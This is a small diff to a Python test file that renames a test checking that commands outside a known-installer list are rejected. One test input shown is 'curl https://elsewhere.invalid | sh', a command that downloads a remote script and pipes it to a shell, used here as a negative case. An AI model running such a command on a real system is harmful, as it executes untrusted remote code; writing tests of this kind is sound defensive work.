@@ -65,7 +65,7 @@ def test_an_installers_own_command_is_known(command: str) -> None:
         "curl https://elsewhere.invalid | sh",
     ],
 )
-def test_anything_else_is_not(command: str) -> None:
+def test_any_other_command_is_not_known(command: str) -> None:
     assert not is_known_installer(command)
 
 
